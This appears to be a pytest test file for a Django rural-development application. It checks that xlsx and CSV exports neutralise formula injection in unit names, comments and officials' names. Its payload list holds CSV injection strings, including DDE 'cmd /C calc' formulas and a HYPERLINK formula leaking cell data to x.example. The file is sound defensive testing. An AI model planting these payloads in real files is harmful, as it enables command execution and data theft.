"""No export or template carries a formula from users' text (OWASP's CSV injection payloads),
and a template or CSV that was escaped and sent back is read as it was written.

Payloads go in through the product where it takes them (unit names through the units API,
comments through the dataValueSets CSV import, officials through the import page); the ones
with a tab or a carriage return are stored directly, as text saved before names and comments
were validated would be: an export must be safe whatever is stored.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from smartrural.core.exports import FORMULA_START, escape, unescape
from smartrural.criteria.models import IndicatorValue, ValueStatus
from smartrural.criteria.tests.factories import ALL_MET, stored_set
from smartrural.geo.models import AdministrativeUnit
from smartrural.testing import Personas
from smartrural.transformation.models import Official, WorkRecordStat
from smartrural.transformation.tests.dataset import build_dataset

from .helpers import give_values, ntm_set, recognise

pytestmark = pytest.mark.django_db

PRINTABLE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '@DDE("cmd";"/C calc";"x")',
    '+DDE("cmd";"/C calc";"x")',
    '-2+3+cmd|" /C calc"!A0',
    "'=1+1",  # already quoted once
]
CONTROL = ["\t=1", "\r=1", "\t@SUM(1,1)"]
PAYLOADS = PRINTABLE + CONTROL


def cells(content: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(content))  # not data_only: formulas stay formulas
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(content: bytes) -> list[str]:
    """Every cell of an .xlsx is data (no formula, no text that a spreadsheet program would
    take for one); its texts."""
    texts = []
    for cell in cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)
            texts.append(cell.value)
    return texts


def escaped(payload: str) -> str:
    return "'" + payload


def rename(client: Client, code: str, name: str) -> None:
    url = f"/api/v1/units/{code}?as_of=2023-06-01"
    response = client.patch(url, {"name": name}, content_type="application/json")
    assert response.status_code == 200, response.content


def name_units(personas: Personas, codes: list[str]) -> dict[str, str]:
    """A payload as the name of each unit: printable ones through the API, others stored."""
    client = personas.client(personas.province)
    names = {}
    for code, payload in zip(codes, itertools.cycle(PAYLOADS), strict=False):
        if payload in CONTROL:
            AdministrativeUnit.objects.filter(code=code).update(name=payload)
        else:
            rename(client, code, payload)
        names[code] = payload
    return names


def comment_values(personas: Personas, unit: str, payloads: list[str]) -> dict[str, str]:
    """ALL_MET values of ``unit`` with a payload as each comment, posted as CSV; the comments
    stored."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["indicator", "value", "comment"])
    comments = dict(zip(ALL_MET, itertools.cycle(payloads), strict=False))
    for code, value in ALL_MET.items():
        writer.writerow([code, value, comments[code]])
    response = personas.client(personas.province).post(
        f"/api/v1/dataValueSets.csv?criteriaSet=T-XA&period=2023&orgUnit={unit}",
        data=out.getvalue().encode(),
        content_type="text/csv",
    )
    assert response.status_code == 200, response.content
    for code, comment in comments.items():
        if comment in CONTROL:
            IndicatorValue.objects.filter(unit__code=unit, indicator_code=code).update(
                comment=comment
            )
    # As stored: the import reads a quoted text as our exports wrote it ('=1+1 is =1+1).
    stored = IndicatorValue.objects.filter(unit__code=unit).values_list("indicator_code", "comment")
    return dict(stored)


class CriteriaExportTests:
    @pytest.fixture
    def stored(self, personas: Personas) -> dict[str, Any]:
        stored_set()
        names = name_units(personas, ["29479", "29482", "849"])
        first = comment_values(personas, "29479", PAYLOADS[:7])
        second = comment_values(personas, "29482", PAYLOADS[7:])
        return {"names": names, "comments": [*first.values(), *second.values()]}

    def test_the_template_carries_names_and_comments_as_text(
        self, personas: Personas, stored: dict[str, Any]
    ) -> None:
        response = personas.client(personas.district).get("/criteria/T-XA/2023/849/template.xlsx")
        assert response.status_code == 200
        texts = assert_no_formula(response.content)
        for payload in [stored["names"]["29479"], stored["names"]["29482"], *stored["comments"]]:
            # A carriage return is written as the line feed XML makes of it: no longer a trigger.
            assert escape(payload.replace("\r", "\n")) in texts

    def test_the_csv_export_escapes_every_field(
        self, personas: Personas, stored: dict[str, Any]
    ) -> None:
        response = personas.client(personas.district).get(
            "/api/v1/dataValueSets",
            {"criteriaSet": "T-XA", "period": "2023", "orgUnit": "849", "children": "true",
             "format": "csv"},
        )  # fmt: skip
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        for row in rows:
            for field in row:
                assert not field.startswith(FORMULA_START), row
        assert sorted(escaped(c) for c in stored["comments"]) == sorted(r[4] for r in rows[1:])

    def test_a_locked_template_sent_back_unchanged_is_not_a_correction(
        self, personas: Personas, stored: dict[str, Any]
    ) -> None:
        IndicatorValue.objects.update(status=ValueStatus.LOCKED)
        before = {(v.unit_id, v.indicator_code): v.comment for v in IndicatorValue.objects.all()}
        client = personas.client(personas.district)
        template = client.get("/criteria/T-XA/2023/849/template.xlsx").content
        upload = SimpleUploadedFile("mau.xlsx", template)
        response = client.post("/criteria/T-XA/2023/849/upload/", {"file": upload})
        assert response.status_code == 302, response.context["errors"]
        after = {(v.unit_id, v.indicator_code): v.comment for v in IndicatorValue.objects.all()}
        assert after == before

    def test_the_csv_export_posted_back_is_unchanged(
        self, personas: Personas, stored: dict[str, Any]
    ) -> None:
        client = personas.client(personas.province)
        exported = client.get(
            "/api/v1/dataValueSets",
            {"criteriaSet": "T-XA", "period": "2023", "orgUnit": "29479", "format": "csv"},
        ).content
        back = client.post(
            "/api/v1/dataValueSets.csv?criteriaSet=T-XA&period=2023&orgUnit=29479",
            data=exported,
            content_type="text/csv",
        ).json()
        assert (back["status"], back["updated"], back["ignored"]) == ("SUCCESS", 0, 7)


class DashboardExportTests:
    def test_the_dashboard_export_carries_unit_names_as_text(self, personas: Personas) -> None:
        ntm_set()
        communes = [personas.commune_a_unit, personas.commune_b_unit, personas.other_commune_unit]
        give_values(communes, met=True)
        recognise(communes[:1])
        names = name_units(personas, ["29479", "29482", "29269", "849", "844"])
        response = personas.client(personas.province).get("/dashboard/export.xlsx?year=2023")
        assert response.status_code == 200
        texts = assert_no_formula(response.content)
        assert escaped(names["849"]) in texts and escaped(names["844"]) in texts
        response = personas.client(personas.district).get("/dashboard/export.xlsx?year=2023")
        texts = assert_no_formula(response.content)
        assert escaped(names["29479"]) in texts and escaped(names["29482"]) in texts


class TransformationExportTests:
    def test_the_kpi_report_carries_unit_names_as_text(self, personas: Personas) -> None:
        build_dataset(personas)
        names = name_units(personas, ["29479", "29482", "29488"])
        response = personas.client(personas.district).get(
            "/transformation/report.xlsx?unit=849&year=2023"
        )
        assert response.status_code == 200
        texts = assert_no_formula(response.content)
        for name in names.values():
            assert escaped(name) in texts

    def test_the_templates_carry_unit_names_as_text(self, personas: Personas) -> None:
        names = name_units(personas, ["849", "29479", "29482"])
        client = personas.client(personas.district)
        for url in (
            "/transformation/officials/import/template.xlsx",
            "/transformation/work-records/template.xlsx?year=2023",
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            texts = assert_no_formula(response.content)
            assert all(escaped(name) in texts for name in names.values()), url

    def test_the_work_records_template_filled_in_goes_back(self, personas: Personas) -> None:
        name_units(personas, ["849", "29479", "29482"])
        client = personas.client(personas.district)
        content = client.get("/transformation/work-records/template.xlsx?year=2023").content
        book = load_workbook(io.BytesIO(content))
        sheet = book.active
        assert sheet is not None
        sheet["C3"], sheet["D3"], sheet["E3"] = "05/2023", 90, 45
        out = io.BytesIO()
        book.save(out)
        upload = SimpleUploadedFile("ho-so.xlsx", out.getvalue())
        response = client.post("/transformation/work-records/upload/", {"file": upload})
        assert response.status_code == 302
        assert WorkRecordStat.objects.get().unit.code == "29479"

    def test_officials_named_like_formulas_are_matched_when_imported_again(
        self, personas: Personas
    ) -> None:
        """A file that holds the escaped names ('=…, as our exports write them) updates the
        officials of those names; it does not add new ones named with a quote."""
        client = personas.client(personas.district)
        rows = [["Mã đơn vị", "Họ và tên", "Chức vụ"]]
        rows += [["29479", name, position] for name, position in itertools.pairwise(PRINTABLE)]

        def send(table: list[list[str]]) -> Any:
            out = io.StringIO()
            csv.writer(out).writerows(table)
            upload = SimpleUploadedFile("can-bo.csv", out.getvalue().encode())
            return client.post(
                "/transformation/officials/import/", {"as_of": "01/06/2023", "file": upload}
            )

        assert send(rows).status_code == 302
        stored = set(Official.objects.values_list("full_name", "position"))
        # A quoted text is read as the text it protects, as our exports write it.
        assert stored == {(unescape(r[1]), unescape(r[2])) for r in rows[1:]}
        # The same officials, written as our exports write texts.
        quoted = [rows[0], *(["29479", escape(name), escape(job)] for name, job in stored)]
        assert send(quoted).status_code == 302
        assert set(Official.objects.values_list("full_name", "position")) == stored
